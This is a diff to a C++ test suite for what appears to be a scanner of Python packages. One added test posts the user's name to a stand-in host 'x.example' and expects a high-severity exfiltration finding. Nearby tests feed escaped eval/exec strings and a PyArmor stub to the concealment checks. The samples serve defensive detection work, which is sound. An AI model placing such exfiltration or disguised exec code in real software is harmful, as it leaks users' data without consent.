@@ -308,6 +308,15 @@ TEST(Behaviour, ExecOfComputedCode) {
                 "exec-dynamic");
 }
 
+TEST(Behaviour, HostFactsSentByTopLevelCodeOfAnyModule) {
+  ExpectFinding("import requests, getpass\nrequests.post('https://x.example', data=getpass.getuser())\n",
+                "exfiltration", Severity::kHigh, Phase::kRuntime);
+  // A setting read from the environment is not a host fact: one step less.
+  auto fs = Analyze("import os, requests\nrequests.post(os.environ['URL'], data='x')\n", Phase::kRuntime);
+  ASSERT_NE(Find(fs, "exfiltration"), nullptr) << Rules(fs);
+  EXPECT_EQ(Find(fs, "exfiltration")->severity, Severity::kMedium);
+}
+
 TEST(Behaviour, CodeSpeltInEscapes) {
   ExpectFinding("e = eval(\"\\145\\166\\141\\x6c\")\n", "exec-decoded", Severity::kCritical);
   ExpectFinding("def f():\n    exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')\n",
@@ -352,7 +361,8 @@ TEST(Concealment, EntropyAndPyArmor) {
     blob += "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(x >> 16) % 64];
   }
   ExpectFinding("D = '" + blob + "'\n", "high-entropy-blob");
-  ExpectFinding("from pytransform import pyarmor_runtime\npyarmor_runtime()\n", "pyarmor-stub");
+  ExpectFinding("from pytransform import pyarmor_runtime\npyarmor_runtime()\n", "pyarmor-stub",
+                Severity::kHigh);
 }
 
 }  // namespace
